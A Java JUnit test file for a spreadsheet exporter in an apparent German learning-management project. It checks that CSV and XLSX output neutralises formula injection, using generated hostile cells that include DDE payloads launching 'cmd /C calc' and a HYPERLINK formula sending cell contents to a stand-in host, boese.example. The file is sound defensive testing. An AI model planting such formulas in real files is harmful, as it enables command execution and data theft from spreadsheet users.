// SPDX-FileCopyrightText: The DigiFit contributors
// SPDX-License-Identifier: EUPL-1.2
package de.digifit.lms.exchange.infrastructure;

import static org.assertj.core.api.Assertions.assertThat;

import de.digifit.core.spreadsheet.Defused;
import de.digifit.lms.exchange.ExportedList;
import de.digifit.lms.exchange.ListFormat;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.stream.Stream;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;

class FileListWriterTest {

    private static final int CELLS = 10_000;
    private static final List<String> STARTS = List.of(
            "=",
            "+",
            "-",
            "@",
            "\t",
            "\r",
            "\n",
            "\uFF1D",
            "\uFF0B",
            "\uFF0D",
            "\uFF20",
            " =",
            "\u00A0+",
            "\uFEFF-",
            "\u200B@",
            "'",
            "''=",
            "\"=",
            ";=",
            "\";\r\n=",
            "");
    private static final List<String> REST = List.of(
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"http://boese.example?x=\"&A1;\"Klick\")",
            "SUMME(A1:A9)",
            "1",
            "DDE(\"cmd\";\"/C calc\")",
            "Müller; \"Anna\"\r\nZweite Zeile",
            "\uD83D\uDE42 & <b>fett</b> ]]>",
            "&#61;1+1",
            "");

    private final FileListWriter writer = new FileListWriter();

    @Test
    void of_ten_thousand_hostile_cells_none_is_active_in_csv_and_all_come_back() throws IOException {
        List<String> hostile = hostile();

        List<String> read = readCsv(write(hostile, ListFormat.CSV, Locale.GERMAN));

        assertThat(read).hasSize(CELLS).noneMatch(Defused::isActive);
        assertThat(read.stream().map(Defused::original)).containsExactlyElementsOf(hostile);
    }

    @Test
    void of_ten_thousand_hostile_cells_none_is_a_formula_in_xlsx_and_all_come_back() throws IOException {
        List<String> hostile = hostile();

        List<Cell> read = readXlsx(write(hostile, ListFormat.XLSX, Locale.GERMAN)).stream()
                .skip(1)
                .map(row -> row.getCell(0))
                .toList();

        assertThat(read).hasSize(CELLS).allMatch(cell -> cell == null || cell.getType() == CellType.STRING);
        List<String> texts =
                read.stream().map(cell -> cell == null ? "" : cell.asString()).toList();
        assertThat(texts).noneMatch(Defused::isActive);
        // XML knows one kind of line break.
        assertThat(texts.stream().map(Defused::original))
                .containsExactlyElementsOf(
                        hostile.stream().map(FileListWriterTest::inXml).toList());
    }

    @Test
    void csv_opens_in_german_excel_and_keeps_the_form_of_dates_and_numbers() throws IOException {
        byte[] csv = write(samples(), ListFormat.CSV, Locale.GERMAN);

        assertThat(new String(csv, StandardCharsets.UTF_8))
                .isEqualTo(String.join(
                        "\r\n",
                        "\uFEFFName;Tag;Beginn;Plätze;Anteil",
                        "Kim Muster;29.02.2028;28.03.2027 09:30;12;-0,5",
                        ""));
        assertThat(new String(write(samples(), ListFormat.CSV, Locale.ENGLISH), StandardCharsets.UTF_8))
                .contains("2028-02-29;2027-03-28 09:30;12;-0.5");
    }

    @Test
    void xlsx_keeps_numbers_and_dates_as_what_they_are() throws IOException {
        List<Row> rows = readXlsx(write(samples(), ListFormat.XLSX, Locale.GERMAN));
        Row row = rows.get(1);

        assertThat(rows.get(0).getCellText(3)).isEqualTo("Plätze");
        assertThat(row.getCell(0).getType()).isEqualTo(CellType.STRING);
        assertThat(row.getCellAsDate(1)).contains(LocalDate.of(2028, 2, 29).atStartOfDay());
        assertThat(row.getCellAsDate(2)).contains(LocalDateTime.of(2027, 3, 28, 9, 30));
        assertThat(row.getCellAsNumber(3)).contains(new BigDecimal(12));
        assertThat(row.getCellAsNumber(4)).contains(new BigDecimal("-0.5"));
    }

    @Test
    void characters_that_no_xml_holds_do_not_break_the_file() throws IOException {
        List<Row> rows =
                readXlsx(write(List.of("a\u0000b\uFFFEc\uD800d", "x".repeat(40_000)), ListFormat.XLSX, Locale.GERMAN));

        assertThat(rows.get(1).getCellText(0)).isEqualTo("a\uFFFDb\uFFFDc\uFFFDd");
        assertThat(rows.get(2).getCellText(0)).hasSize(32_767);
    }

    @Test
    void a_name_that_excel_does_not_take_for_a_sheet_is_made_one_that_it_takes() throws IOException {
        ExportedList list = new ExportedList(
                "[Saison] 2026/27: alle Termine der ganzen Stadt", List.of("Kopf"), Stream.of(List.of("Wert")));
        ByteArrayOutputStream out = new ByteArrayOutputStream();

        writer.write(list, ListFormat.XLSX, Locale.GERMAN, out);

        assertThat(readXlsx(out.toByteArray())).hasSize(2);
    }

    private static String inXml(String text) {
        return text.replace("\r\n", "\n").replace('\r', '\n');
    }

    private static List<String> hostile() {
        Random random = new Random(20261125);
        List<String> cells = new ArrayList<>();
        while (cells.size() < CELLS) {
            cells.add(STARTS.get(random.nextInt(STARTS.size()))
                    + REST.get(random.nextInt(REST.size()))
                    + (random.nextBoolean() ? "" : random.nextInt(1000)));
        }
        return cells;
    }

    private static ExportedList samples() {
        return new ExportedList(
                "Muster",
                List.of("Name", "Tag", "Beginn", "Plätze", "Anteil"),
                Stream.of(List.of(
                        "Kim Muster",
                        LocalDate.of(2028, 2, 29),
                        LocalDateTime.of(2027, 3, 28, 9, 30),
                        12,
                        new BigDecimal("-0.5"))));
    }

    private byte[] write(List<String> cells, ListFormat format, Locale locale) throws IOException {
        return write(
                new ExportedList(
                        "Liste", List.of("Text", "Ende"), cells.stream().map(cell -> List.<Object>of(cell, "Ende"))),
                format,
                locale);
    }

    private byte[] write(ExportedList list, ListFormat format, Locale locale) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        writer.write(list, format, locale, out);
        return out.toByteArray();
    }

    private static List<String> readCsv(byte[] csv) throws IOException {
        List<String> cells = new ArrayList<>();
        String text = new String(csv, StandardCharsets.UTF_8).substring(1);
        try (CsvReader<CsvRecord> reader =
                CsvReader.builder().fieldSeparator(';').skipEmptyLines(false).ofCsvRecord(text)) {
            reader.stream().skip(1).forEach(line -> cells.add(line.getField(0)));
        }
        return cells;
    }

    private static List<Row> readXlsx(byte[] xlsx) throws IOException {
        try (ReadableWorkbook book = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
            return book.getFirstSheet().read();
        }
    }
}
